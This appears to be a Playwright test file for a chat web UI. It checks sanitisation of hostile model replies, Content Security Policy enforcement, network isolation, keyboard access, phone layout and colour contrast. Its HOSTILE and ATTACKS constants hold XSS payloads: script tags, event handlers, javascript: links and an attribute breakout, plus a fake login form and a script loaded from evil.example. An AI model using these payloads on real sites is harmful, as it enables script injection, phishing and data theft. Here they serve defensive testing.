"""The web UI as a page in Chromium: hostile replies, keyboard, phone, light and dark."""

from __future__ import annotations

import asyncio
from typing import TYPE_CHECKING

import pytest

from tests.support.browser import browser_page
from tests.support.http_server import running
from tests.support.scripted_model import REPLY, saying

if TYPE_CHECKING:
    from playwright.async_api import Page

HOSTILE = """<script>window.hacked = 1</script>

<img src=x onerror="window.hacked = 2"> <svg onload="window.hacked = 3"><iframe srcdoc="<script>top.hacked=4</script>">

[one](javascript:window.hacked=5) [two](JaVaScRiPt:window.hacked=6) [three](data:text/html,<script>alert(1)</script>)
[four](vbscript:x) [five](/v1/cache) ![six](https://evil.example/?q=secret) ![seven](javascript:alert(1))
[eight](https://good.example/ "a\\" onmouseover=\\"window.hacked=7")  <style>body { display: none }</style>

<form action="https://evil.example"><input name=key><button>Log in</button></form>

<math><mtext><table><mglyph><style><img src=x onerror="window.hacked=8">

```html
<script>window.hacked = 9</script>
```
<https://auto.example> <a href="javascript:window.hacked=10" style="position:fixed;inset:0">all</a> end of it
"""
ATTACKS = {
    "inline script": "const s = document.createElement('script'); s.text = 'window.hacked = 1';document.body.append(s)",
    "markup": "document.body.innerHTML = '<img src=x onerror=\"window.hacked = 1\">'",
    "handler": "document.body.setAttribute('onclick', 'window.hacked = 1'); document.body.click()",
    "eval": "eval('window.hacked = 1')",
    "a string for a timer": "setTimeout('window.hacked = 1')",
    "script of another site": "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
    "document.body.append(s)",
}


async def answered(page: Page, text: str = "hi") -> None:
    """Send a message and wait for the end of its reply."""
    await page.get_by_role("textbox", name="Message").fill(text)
    await page.keyboard.press("Enter")
    await page.get_by_role("button", name="Regenerate").wait_for()


async def test_a_hostile_reply_does_nothing() -> None:
    model = {"context": 4096, "script": saying(f"<think>{HOSTILE}</think>{HOSTILE}")}
    async with running(model=model) as here, browser_page() as page:
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        await page.goto(here.url)
        await answered(page, "<img src=x onerror='window.hacked=11'>")
        await page.locator("article.assistant").get_by_text("Reasoning").click()
        for place in ("article.assistant .content", "article.assistant .reasoning", "article.user"):
            part = page.locator(place)
            assert await part.locator("script, img, svg, iframe, style, form, input, button, math").count() == 0
            handlers = "(part) => [...part.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name))"
            assert set(await part.evaluate(handlers)) <= {"class", "href", "rel", "target", "title", "hidden"}
        links = page.locator("article.assistant .content a[href]")
        found = [await link.get_attribute("href") for link in await links.all()]
        assert found == ["https://evil.example/?q=secret", "https://good.example/", "https://auto.example"]
        for link in await links.all():
            assert await link.get_attribute("rel") == "noopener noreferrer"
            assert await link.get_attribute("target") == "_blank"
        content = await page.locator("article.assistant .content").inner_text()
        assert "<script>window.hacked = 1</script>" in content and "end of it" in content
        for name in ("one", "two", "three", "seven"):
            await page.locator("article.assistant .content").get_by_text(name, exact=True).click()
        assert await page.evaluate("window.hacked") is None and await page.locator("body").is_visible()
        assert asked and all(url.startswith(here.url) for url in asked)


@pytest.mark.parametrize("attack", ATTACKS)
async def test_the_policy_stops_what_got_in(attack: str) -> None:
    stopped = ("Content Security Policy", "TrustedHTML", "TrustedScript", "unsafe-eval")
    async with running() as here, browser_page(here.url, expected=stopped) as page:
        await page.get_by_text("Connected").wait_for()
        # In a task of the page itself: what Playwright evaluates is outside of the policy.
        await page.evaluate(f"() => {{ setTimeout(() => {{ {ATTACKS[attack]} }}) }}")
        await asyncio.sleep(0.3)
        assert await page.evaluate("window.hacked") is None


async def test_the_page_reaches_no_other_server() -> None:
    async with running() as here, running() as other, browser_page(here.url, expected=("Content Security",)) as page:
        result = await page.evaluate(
            "(url) => fetch(url, { mode: 'no-cors' }).then(() => 'sent', () => 'refused')", other.url
        )
        assert result == "refused" and await other.metric("luce_requests_total") == 0


async def test_the_keyboard_alone() -> None:
    async with running() as here, browser_page(here.url) as page:
        await page.get_by_text("Connected").wait_for()
        # The message is what one begins with.
        await page.keyboard.type("first line")
        await page.keyboard.press("Shift+Enter")
        await page.keyboard.type("second line")
        await page.keyboard.press("Enter")
        await page.get_by_role("button", name="Regenerate").wait_for()
        assert await page.locator("article.user .content").inner_text() == "first line\nsecond line"
        names = set()
        for _ in range(20):
            await page.keyboard.press("Tab")
            focused = page.locator(":focus")
            if await focused.count():
                names.add((await focused.get_attribute("id")) or await focused.inner_text())
                assert await focused.evaluate("(e) => getComputedStyle(e).outlineStyle") != "none"
        assert {"Chat", "Status", "conversations", "new-conversation", "delete-conversation"} <= names
        assert {"export-markdown", "export-json", "open-options", "messages", "Regenerate", "prompt", "send"} <= names
        await page.locator("#open-options").focus()
        await page.keyboard.press("Enter")
        assert await page.get_by_role("dialog", name="Options").is_visible()
        await page.keyboard.press("Escape")
        assert not await page.get_by_role("dialog", name="Options").is_visible()
        await page.get_by_role("link", name="Status").focus()
        await page.keyboard.press("Enter")
        await page.get_by_role("main", name="Status").wait_for()


WIDE = "() => document.documentElement.scrollWidth - document.documentElement.clientWidth"


async def test_a_phone() -> None:
    text = (
        "a" * 300
        + "\n\n| one | two | three | four |\n|---|---|---|---|\n"
        + "| wide cell | wide cell | wide cell | wide |\n"
    )
    model = {"context": 2048, "script": saying(text + "\n```\n" + "x" * 200 + "\n```\n")}
    phone = {"viewport": {"width": 360, "height": 640}, "has_touch": True, "is_mobile": True}
    async with running(model=model, parallel=2) as here, browser_page(here.url, **phone) as page:
        await page.get_by_role("textbox", name="Message").tap()
        await page.keyboard.type("hi")
        await page.get_by_role("button", name="Send").tap()
        await page.get_by_role("button", name="Regenerate").wait_for()
        assert await page.evaluate(WIDE) == 0
        for name in ("Send", "Options", "Regenerate"):
            box = await page.get_by_role("button", name=name).bounding_box()
            assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= 360 and box["height"] >= 24, name
        composer = await page.locator("#composer").bounding_box()
        assert composer is not None and composer["y"] + composer["height"] <= 640
        await page.get_by_role("button", name="Options").tap()
        assert await page.evaluate(WIDE) == 0
        await page.get_by_role("button", name="Cancel").tap()
        await page.get_by_role("link", name="Status").tap()
        await page.get_by_role("table", name="Slots").wait_for()
        assert await page.evaluate(WIDE) == 0


#: the ratio of contrast of WCAG 2, of the text of an element and the first background behind it
CONTRAST = """(element) => {
  const parts = (text) => text.match(/[\\d.]+/g).map(Number);
  const light = (text) => {
    const linear = (v) => (v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    const [r, g, b] = parts(text).map((value) => linear(value / 255));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  let behind = element;
  while (parts(getComputedStyle(behind).backgroundColor)[3] === 0) behind = behind.parentElement;
  const both = [light(getComputedStyle(element).color), light(getComputedStyle(behind).backgroundColor)];
  return (Math.max(...both) + 0.05) / (Math.min(...both) + 0.05);
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_light_and_dark(scheme: str) -> None:
    model = {"context": 1024, "script": saying(f"<think>Hm.</think>{REPLY} [a link](https://a.example) and `code`")}
    async with running(model=model) as here, browser_page(here.url, color_scheme=scheme) as page:
        await page.get_by_text("Connected").wait_for()
        await answered(page)
        back = await page.evaluate("getComputedStyle(document.body).backgroundColor.match(/\\d+/g).map(Number)")
        assert (min(back) > 200) if scheme == "light" else (max(back) < 60)
        names = (
            "header h1",
            "nav a",
            "#connection",
            "#open-options",
            "article h2",
            "article p",
            "article a",
            "article code",
        )
        for name in (*names, "summary", ".figures", "#prompt"):
            assert await page.locator(name).first.evaluate(CONTRAST) >= 4.5, name
        await page.get_by_role("link", name="Status").click()
        await page.get_by_role("table", name="Devices").wait_for()
        for name in ("dt", "dd", "figcaption", "#tables th", "#tables td", "#tables caption"):
            assert await page.locator(name).first.evaluate(CONTRAST) >= 4.5, name
